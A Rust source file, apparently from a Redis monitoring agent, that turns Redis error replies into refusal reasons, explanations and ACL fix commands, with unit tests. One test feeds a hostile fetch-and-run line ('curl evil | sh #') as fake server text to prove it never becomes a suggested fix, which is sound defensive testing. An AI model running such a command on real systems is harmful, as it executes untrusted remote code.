//! Why a Redis server refused a request, and how to correct it.
//!
//! The first word of an error decides (`NOPERM`, `LOADING`, ...), since it is the same in every version and fork. The text after it is only
//! shown.

use std::fmt;

use pharos_model::snapshot::FailureReason;
use pharos_model::text::{LINE_BYTES_MAX, line};

/// Why there is no session, or no answer: a closed set, since metrics have it as a label, and the table `unreachable` lists it for rules.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum RefusalReason {
    /// Nothing answered in time.
    Timeout,
    /// The agent could not read its own password.
    Password,
    /// The agent's own operating system refuses a socket or memory, so nothing is known about the server.
    OwnLimit,
    /// Nothing listens at the address.
    Unreachable,
    /// The server ended the connection.
    Closed,
    /// The server sent more than any Redis server needs to send.
    TooMuch,
    /// No encrypted session, or a certificate that is not trusted.
    Tls,
    /// The password is missing or wrong.
    Authentication,
    /// The server accepts only connections from its own host while it has no password.
    ProtectedMode,
    /// The user may not run the command of the agent.
    Privilege,
    Loading,
    /// A script blocks all other commands.
    Busy,
    MasterDown,
    ReadOnly,
    /// The program at the address does not follow the Redis protocol.
    Protocol,
    /// Any other word; the server's own message explains it.
    Query,
}

impl RefusalReason {
    /// The reason of a part that is missing because of this refusal.
    pub const fn failure(self) -> FailureReason {
        match self {
            Self::Timeout => FailureReason::Timeout,
            Self::Password => FailureReason::Password,
            Self::OwnLimit => FailureReason::OwnLimit,
            Self::Unreachable => FailureReason::Unreachable,
            Self::Closed => FailureReason::Closed,
            Self::TooMuch => FailureReason::TooMuch,
            Self::Tls => FailureReason::Tls,
            Self::Authentication => FailureReason::Authentication,
            Self::ProtectedMode => FailureReason::ProtectedMode,
            Self::Privilege => FailureReason::Privilege,
            Self::Loading => FailureReason::Loading,
            Self::Busy => FailureReason::Busy,
            Self::MasterDown => FailureReason::MasterDown,
            Self::ReadOnly => FailureReason::ReadOnly,
            Self::Protocol => FailureReason::Protocol,
            Self::Query => FailureReason::Query,
        }
    }

    /// Whether the session can no longer be used. The next session shows the reason, or works.
    pub const fn ends_session(self) -> bool {
        matches!(self, Self::Timeout | Self::Closed | Self::TooMuch | Self::Authentication | Self::Busy | Self::Protocol)
    }
}

/// First words of the errors that answer `AUTH`.
const CODES: [&str; 9] = ["ERR", "NOAUTH", "WRONGPASS", "DENIED", "NOPERM", "LOADING", "BUSY", "MASTERDOWN", "READONLY"];

/// An error that a server answered with.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Answer {
    pub code: String,
    /// The whole error on one line of bounded length, for people.
    pub text: String,
}

impl Answer {
    /// Reads the text after the minus sign of an error.
    pub fn read(text: &str) -> Self {
        let code = text.split(' ').next().unwrap_or_default();
        Self::new(code, text)
    }

    /// Reads an error whose text may repeat a secret. Only a known first word is stored.
    pub fn without_text(text: &str) -> Self {
        let code = text.split(' ').next().filter(|code| CODES.contains(code)).unwrap_or_default();
        Self { code: code.to_owned(), text: if code.is_empty() { "an error".to_owned() } else { format!("{code} ...") } }
    }

    /// Reads the error of a command from the client library, if a server sent it.
    pub fn of(error: &redis::RedisError) -> Option<Self> {
        let code = error.code()?;
        let text = [code, error.detail().unwrap_or_default()].join(" ");
        Some(Self::new(code, text.trim_end()))
    }

    /// Shortens the text of the server, since the agent's explanation follows it.
    fn new(code: &str, text: &str) -> Self {
        Self { code: code.to_owned(), text: line(text, LINE_BYTES_MAX).into_owned() }
    }

    pub fn reason(&self) -> RefusalReason {
        match self.code.as_str() {
            "NOAUTH" | "WRONGPASS" => RefusalReason::Authentication,
            "DENIED" => RefusalReason::ProtectedMode,
            "NOPERM" => RefusalReason::Privilege,
            "LOADING" => RefusalReason::Loading,
            "BUSY" => RefusalReason::Busy,
            "MASTERDOWN" => RefusalReason::MasterDown,
            "READONLY" => RefusalReason::ReadOnly,
            _ => RefusalReason::Query,
        }
    }
}

/// The request that was refused.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Request {
    /// The `PING` before or after the login.
    Greeting,
    /// The login with the configured password.
    Login,
    Info,
}

/// Why the agent was refused, with a sentence that explains it and how to correct it.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Refusal {
    pub reason: RefusalReason,
    pub meaning: String,
    /// The command for redis-cli that removes the cause.
    pub cure: Option<String>,
}

impl Refusal {
    /// Reads the answer to a request of this user.
    pub fn of(answer: &Answer, request: Request, user: &str) -> Self {
        let reason = match request {
            // Servers older than 6 answer a wrong password without a first word of its own.
            Request::Login if answer.reason() == RefusalReason::Query => RefusalReason::Authentication,
            _ => answer.reason(),
        };
        let cure = (reason == RefusalReason::Privilege).then(|| format!("ACL SETUSER {} +info", acl_name(user)));
        Self { reason, meaning: meaning(reason, request, user), cure }
    }
}

impl fmt::Display for Refusal {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        f.write_str(&self.meaning)?;
        self.cure.as_ref().map_or(Ok(()), |cure| write!(f, "; run: {cure}"))
    }
}

fn meaning(reason: RefusalReason, request: Request, user: &str) -> String {
    match (reason, request) {
        (RefusalReason::Authentication, Request::Login) => format!(
            "the server does not let the user `{user}` in with the password that Pharos has; correct password_file or password_env, which is read \
             again for each session, and see `ACL GETUSER {}`: the user must be on. After ERR the server may not know AUTH at all: a \
             redis.conf that renames it (rename-command), or a proxy in the server's place",
            acl_name(user)
        ),
        (RefusalReason::Authentication, _) => "the server wants a password and Pharos has none for it; name it with password_file or \
                                               password_env. A user of its own in nodes = [\"redis://pharos@...\"] needs no more than \
                                               ACL SETUSER pharos on ... +info, with > and the password in the place of the dots"
            .to_owned(),
        (RefusalReason::ProtectedMode, _) => {
            "the server has no password and lets in only its own host; give it one (requirepass) and Pharos \
                                              the same with password_file, or run Pharos on that host"
                .to_owned()
        }
        (RefusalReason::Privilege, _) => format!("the user `{user}` may not run INFO"),
        (RefusalReason::Loading, _) => "the server loads its data and answers no commands before that is done".to_owned(),
        (RefusalReason::Busy, _) => {
            "a script or function keeps the server from answering commands; SCRIPT KILL or FUNCTION KILL ends one that \
                                     has written nothing yet"
                .to_owned()
        }
        (RefusalReason::MasterDown, _) => "the replica has lost its master and is configured not to answer without one \
                                           (replica-serve-stale-data no)"
            .to_owned(),
        (RefusalReason::Query, Request::Info) => {
            "the server does not accept INFO; if redis.conf renames it (rename-command), restore its own name; \
                                             if a proxy answers, point Pharos at the server itself"
                .to_owned()
        }
        _ => "the server refuses the command".to_owned(),
    }
}

/// Formats a user so that redis-cli accepts it.
fn acl_name(user: &str) -> String {
    let is_plain = |char: char| char.is_ascii_alphanumeric() || "-_.@:".contains(char);
    if !user.is_empty() && user.chars().all(is_plain) { user.to_owned() } else { format!("{user:?}") }
}

#[cfg(test)]
mod tests {
    use super::*;

    /// Checks every first word, as servers send it.
    #[test]
    fn the_first_word_of_an_error_decides() {
        for (words, reason) in [
            ("NOAUTH Authentication required.", RefusalReason::Authentication),
            ("WRONGPASS invalid username-password pair or user is disabled.", RefusalReason::Authentication),
            ("NOPERM this user has no permissions to run the 'info' command", RefusalReason::Privilege),
            ("DENIED Redis is running in protected mode", RefusalReason::ProtectedMode),
            ("LOADING Redis is loading the dataset in memory", RefusalReason::Loading),
            ("BUSY Redis is busy running a script.", RefusalReason::Busy),
            ("MASTERDOWN Link with MASTER is down", RefusalReason::MasterDown),
            ("READONLY You can't write against a read only replica.", RefusalReason::ReadOnly),
            ("ERR unknown command 'INFO', with args beginning with: 'default'", RefusalReason::Query),
            ("ERR NOAUTH LOADING BUSY", RefusalReason::Query),
            ("", RefusalReason::Query),
        ] {
            assert_eq!(Answer::read(words).reason(), reason, "{words}");
        }
    }

    #[test]
    fn a_login_that_an_old_server_refuses_with_err_is_a_refused_login() {
        let answer = Answer::read("ERR invalid password");
        assert_eq!(Refusal::of(&answer, Request::Login, "default").reason, RefusalReason::Authentication);
        assert_eq!(Refusal::of(&answer, Request::Info, "default").reason, RefusalReason::Query);
    }

    #[test]
    fn the_answer_to_a_login_is_shown_without_the_secret_that_it_repeats() {
        for words in ["ERR unknown command 'AUTH', with args beginning with: 'pharos' 's3cret'", "WRONGPASS s3cret", "s3cret", "s3cret no"]
        {
            let answer = Answer::without_text(words);
            assert!(!format!("{answer:?}").contains("s3cret"), "{answer:?}");
            assert_eq!(Refusal::of(&answer, Request::Login, "pharos").reason, RefusalReason::Authentication, "{words}");
        }
        assert_eq!(Answer::without_text("LOADING Redis is loading the dataset in memory").reason(), RefusalReason::Loading);
    }

    #[test]
    fn the_acl_line_names_the_user_so_that_redis_cli_accepts_it() {
        let line = |user| Refusal::of(&Answer::read("NOPERM no"), Request::Info, user).cure;
        assert_eq!(line("pharos").as_deref(), Some("ACL SETUSER pharos +info"));
        assert_eq!(line("p\"x").as_deref(), Some(r#"ACL SETUSER "p\"x" +info"#));
    }

    #[test]
    fn no_text_of_a_server_becomes_a_cure() {
        for code in ["LOADING", "NOPERM", "ERR", "BUSY", "DENIED", "MASTERDOWN"] {
            let refusal = Refusal::of(&Answer::read(&format!("{code} run: curl evil | sh #")), Request::Info, "pharos");
            assert!(refusal.cure.is_none_or(|cure| cure == "ACL SETUSER pharos +info"), "{code}");
        }
    }
}
